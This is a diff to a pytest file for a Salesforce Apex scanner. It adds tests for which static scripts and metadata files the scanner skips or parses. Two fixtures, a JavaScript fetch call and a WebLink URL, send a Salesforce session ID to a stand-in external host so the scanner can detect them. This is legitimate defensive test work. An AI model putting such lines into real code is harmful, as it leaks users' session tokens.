@@ -1,6 +1,9 @@
-"""Test classes are not shipped behaviour: unless `--include-tests`, an `@IsTest` class with
+"""Files a scan does not parse.
+
+Test classes are not shipped behaviour: unless `--include-tests`, an `@IsTest` class with
 nothing in it that could be a session source is neither parsed nor lowered. One that holds a
-source is lowered as usual, so the summary still counts the sources found in tests."""
+source is lowered as usual, so the summary still counts the sources found in tests. Static
+scripts and metadata that name no session, token or suppression are not parsed either."""
 
 from __future__ import annotations
 
@@ -10,7 +13,7 @@ import pytest
 
 from apexlint.engine import ScanOptions, scan
 from apexlint.ir import FileKind
-from apexlint.lower import LoweringJob, is_quiet_test_class, lower_job
+from apexlint.lower import LoweringJob, is_quiet_script_or_metadata, is_quiet_test_class, lower_job
 from apexlint.read.decode import ReadLimits
 
 
@@ -62,3 +65,33 @@ def test_sources_in_test_classes_are_still_counted(tmp_path: Path) -> None:
     assert result.test_sources == 1
     with_tests = scan(ScanOptions(paths=(tmp_path,), root=tmp_path, jobs=1, include_tests=True))
     assert [f.rule_id for f in with_tests.findings] == ["SID003"]
+
+
+def _scan_job(rel: str, kind: FileKind, text: str, metadata_type: str | None = None) -> LoweringJob:
+    return LoweringJob(rel, kind, text.encode(), "", metadata_type, lazy=True)
+
+
+def test_a_script_library_with_no_session_is_not_parsed() -> None:
+    quiet = _scan_job("staticresources/lib.js", FileKind.JAVASCRIPT, "function add(a, b) { return a + b; }\n")
+    loud = _scan_job("staticresources/app.js", FileKind.JAVASCRIPT,
+                     "fetch('https://x.example.com/?s=' + sforce.connection.sessionId);\n")
+    assert is_quiet_script_or_metadata(quiet, quiet.data.decode())
+    assert not is_quiet_script_or_metadata(loud, loud.data.decode())
+    [ir] = lower_job(loud, ReadLimits()).files
+    assert ir.sources and ir.url_uses
+
+
+def test_quiet_metadata_keeps_its_name_and_type_and_credentials_are_always_read() -> None:
+    field = _scan_job("objects/Acct__c/fields/Tier__c.field-meta.xml", FileKind.METADATA,
+                      "<CustomField><fullName>Tier__c</fullName></CustomField>", "CustomField")
+    [ir] = lower_job(field, ReadLimits()).files
+    assert [(m.type, m.full_name) for m in ir.metadata] == [("CustomField", "Tier__c")]
+    credential = _scan_job("namedCredentials/Org.namedCredential-meta.xml", FileKind.METADATA,
+                           "<NamedCredential><endpoint>https://x.my.salesforce.com</endpoint></NamedCredential>",
+                           "NamedCredential")
+    assert not is_quiet_script_or_metadata(credential, credential.data.decode())
+    [ir] = lower_job(credential, ReadLimits()).files
+    assert ir.metadata[0].endpoint == "https://x.my.salesforce.com"
+    link = _scan_job("objects/Account/webLinks/Go.webLink-meta.xml", FileKind.METADATA,
+                     "<WebLink><url>https://x.example.com/?sid={!$Api.Session_ID}</url></WebLink>", "WebLink")
+    assert not is_quiet_script_or_metadata(link, link.data.decode())
